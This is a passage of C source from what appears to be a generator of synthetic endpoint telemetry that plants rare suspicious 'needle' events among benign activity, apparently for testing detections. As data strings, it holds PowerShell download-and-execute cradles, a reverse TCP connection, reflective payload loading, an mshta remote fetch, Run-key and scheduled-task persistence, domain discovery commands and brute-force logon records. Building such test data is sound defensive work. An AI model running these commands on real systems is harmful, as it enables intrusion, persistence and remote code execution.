            gen_fmt(g, "HKEY_CURRENT_USER\\%.*s\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                    (int)d->user->sid.n, d->user->sid.p),
            GS_C("OneDriveUpdate"), "String", GS_C("C:\\\\Users\\\\Public\\\\upd.exe"));
    spawn(g, d, &st, B_SCHTASKS, &cmd, GI_MEDIUM,
          GS_C("schtasks  /create /sc minute /mo 30 /tn \\\"OneDrive Update\\\" /tr C:\\\\Users\\\\Public\\\\upd.exe /f"));
}

static void sus_discovery(vg_gen *g, gdev *d)
{
    gproc cmd, t, t2;
    spawn(g, d, &cmd, B_CMD, &d->explorer, GI_MEDIUM,
          GS_C("\\\"C:\\\\Windows\\\\system32\\\\cmd.exe\\\" "));
    spawn(g, d, &t, B_WHOAMI, &cmd, GI_MEDIUM, GS_C("whoami  /all"));
    spawn(g, d, &t, B_NET, &cmd, GI_MEDIUM, GS_C("net  group \\\"Domain Admins\\\" /domain"));
    spawn(g, d, &t2, B_NET1, &t, GI_MEDIUM,
          GS_C("C:\\\\Windows\\\\system32\\\\net1  group \\\"Domain Admins\\\" /domain"));
    spawn(g, d, &t, B_NLTEST, &cmd, GI_MEDIUM, GS_C("nltest  /dclist:contoso.com"));
    spawn(g, d, &t, B_NET, &cmd, GI_MEDIUM, GS_C("net  localgroup administrators"));
}

static void sus_mshta(vg_gen *g, gdev *d)
{
    gproc ol, hta;
    spawn(g, d, &ol, B_OUTLOOK, &d->explorer, GI_MEDIUM,
          GS_C("\\\"C:\\\\Program Files\\\\Microsoft Office\\\\Root\\\\Office16\\\\OUTLOOK.EXE\\\" "));
    spawn(g, d, &hta, B_MSHTA, &ol, GI_MEDIUM,
          GS_C("\\\"C:\\\\Windows\\\\SysWOW64\\\\mshta.exe\\\" https://cdn-static-files.top/invoice.hta"));
    row_net(g, d, &hta, &gen_dest_bad[1], "ConnectionSuccess");
}

static void sus_bruteforce(vg_gen *g, gdev *d)
{
    static const char *const names[] = { "administrator", "admin", "backup", "test" };
    gacct tmp = { GS_C(""), GS_C(""), GS_C(""), GS_C(""), GS_C("") };
    int n = 8 + (int)gen_rn(g, 12);
    for (int i = 0; i < n; i++) {
        tmp.name = GS_C(names[gen_rn(g, 4)]);
        tmp.domain = GS_C(d->server ? "srv" : "desktop");
        logon_info li = { "LogonFailed", "Network", "NTLM", "InvalidUserNameOrPassword", &tmp, false,
                          0, GS_C(""), GS_C(gen_dest_bad[2].ip), 40000 + (int)gen_rn(g, 20000) };
        row_logon(g, d, &d->lsass, &li);
    }
}

/* ---- the mix ---- */

typedef void (*episode_fn)(vg_gen *g, gdev *d);

static const struct {
    episode_fn fn;
    uint32_t weight;
    uint32_t tables;   /* tables the episode writes (to skip useless ones) */
} episodes[] = {
#define T_(x) (1u << (x))
    { ep_browser, 16, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) | T_(VG_GEN_FILE) | T_(VG_GEN_IMAGELOAD) },
    { ep_service, 16, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) | T_(VG_GEN_REGISTRY) },
    { ep_sense, 12, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) | T_(VG_GEN_IMAGELOAD) },
    { ep_office, 10, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) | T_(VG_GEN_FILE) | T_(VG_GEN_REGISTRY) | T_(VG_GEN_IMAGELOAD) },
    { ep_shell, 9, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) },
    { ep_logon, 8, T_(VG_GEN_LOGON) },
    { ep_sync, 8, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) | T_(VG_GEN_FILE) },
    { ep_powershell, 6, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) | T_(VG_GEN_FILE) | T_(VG_GEN_IMAGELOAD) },
    { ep_defender, 6, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) | T_(VG_GEN_FILE) | T_(VG_GEN_REGISTRY) | T_(VG_GEN_IMAGELOAD) },
    { ep_dev, 5, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) },
    { ep_update, 4, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) | T_(VG_GEN_FILE) },
};

static const struct {
    episode_fn fn;
    uint32_t tables;
} needles[] = {
    { sus_encoded_ps, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) | T_(VG_GEN_IMAGELOAD) },
    { sus_certutil, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) | T_(VG_GEN_FILE) },
    { sus_lsass, T_(VG_GEN_PROCESS) | T_(VG_GEN_FILE) | T_(VG_GEN_IMAGELOAD) },
    { sus_persistence, T_(VG_GEN_PROCESS) | T_(VG_GEN_REGISTRY) },
    { sus_discovery, T_(VG_GEN_PROCESS) },
    { sus_mshta, T_(VG_GEN_PROCESS) | T_(VG_GEN_NETWORK) },
    { sus_bruteforce, T_(VG_GEN_LOGON) },
#undef T_
};

#define NEPISODES (sizeof episodes / sizeof episodes[0])
#define NNEEDLES (sizeof needles / sizeof needles[0])

static void b64_utf16(const char *s, char *out, size_t cap)
{
    static const char tab[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    unsigned char in[1024];
    size_t n = 0;
    for (const char *p = s; *p && n + 2 <= sizeof in; p++) {
        in[n++] = (unsigned char)*p;
        in[n++] = 0;
    }
    size_t k = 0;
    for (size_t i = 0; i < n && k + 5 < cap; i += 3) {
        uint32_t v = (uint32_t)in[i] << 16 | (i + 1 < n ? (uint32_t)in[i + 1] << 8 : 0) |
                     (i + 2 < n ? in[i + 2] : 0);
        out[k++] = tab[v >> 18 & 63];
        out[k++] = tab[v >> 12 & 63];
        out[k++] = i + 1 < n ? tab[v >> 6 & 63] : '=';
        out[k++] = i + 2 < n ? tab[v & 63] : '=';
    }
    out[k] = '\0';
}

vg_err gen_episodes_init(vg_gen *g)
{
    g->n_web = gen_count_dests(gen_dest_web);
    g->n_office = gen_count_dests(gen_dest_office);
    g->n_ms = gen_count_dests(gen_dest_ms);
    g->n_sense = gen_count_dests(gen_dest_sense);
    g->n_dev = gen_count_dests(gen_dest_dev);
    g->n_bad = gen_count_dests(gen_dest_bad);
    g->n_regsys = gen_count_regs(gen_reg_system);
    g->n_reguser = gen_count_regs(gen_reg_user);
    g->n_docs = gen_count_strs(gen_doc_names);
    g->n_hosts = gen_count_strs(gen_hosts_internal);
    g->n_groups = gen_count_strs(gen_svchost_groups);
    static const char *const payloads[4] = {
        "IEX (New-Object Net.WebClient).DownloadString('http://update-check.duckdns.org/a.ps1')",
        "$c=New-Object System.Net.Sockets.TCPClient('91.215.85.142',8443);$s=$c.GetStream()",
        ("Invoke-WebRequest -Uri http://update-check.duckdns.org/s.exe -OutFile $env:TEMP\\s.exe; "
         "Start-Process $env:TEMP\\s.exe"),
        "[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://cdn-static-files.top/l.bin'))",
    };
    for (int i = 0; i < 4; i++) {
        char b64[1400];
        b64_utf16(payloads[i], b64, sizeof b64);
        size_t n = strlen(b64);
        char *p = vg_arena_memdup(&g->arena, b64, n);
        if (!p)
            return VG_ENOMEM;
        g->enc_ps[i] = (gs){ p, (uint32_t)n };
    }
    g->info_day = -1;
    return VG_OK;
}

void gen_episode(vg_gen *g)
{
    g->episodes++;
    const uint32_t info = 1u << VG_GEN_INFO;
    if (g->mask & info) {
        int64_t day = (g->t - g->o.start) / VG_TICKS_PER_DAY;
        if (day != g->info_day) {
            g->info_day = day;
            g->info_next = 0;
        }
        if (g->info_next < g->o.devices) {
            row_info(g, &g->devs[g->info_next++]);
            return;
        }
        if (g->mask == info) {
            row_info(g, &g->devs[gen_rn(g, g->o.devices)]);
            return;
        }
    }
    gdev *d = &g->devs[gen_rn(g, g->o.devices)];
    if (gen_rn(g, g->o.needle_odds ? g->o.needle_odds : VG_GEN_NEEDLE_ODDS) == 0) {
        uint32_t k = gen_rn(g, NNEEDLES);
        if (needles[k].tables & g->mask) {
            needles[k].fn(g, d);
            return;
        }
    }
    uint32_t total = 0;
    for (size_t i = 0; i < NEPISODES; i++)
        if (episodes[i].tables & g->mask)
            total += episodes[i].weight;
    if (!total)
        return;
    uint32_t r = gen_rn(g, total);
    for (size_t i = 0; i < NEPISODES; i++) {
        if (!(episodes[i].tables & g->mask))
            continue;
        if (r < episodes[i].weight) {
            episodes[i].fn(g, d);
            return;
        }
        r -= episodes[i].weight;
    }
}
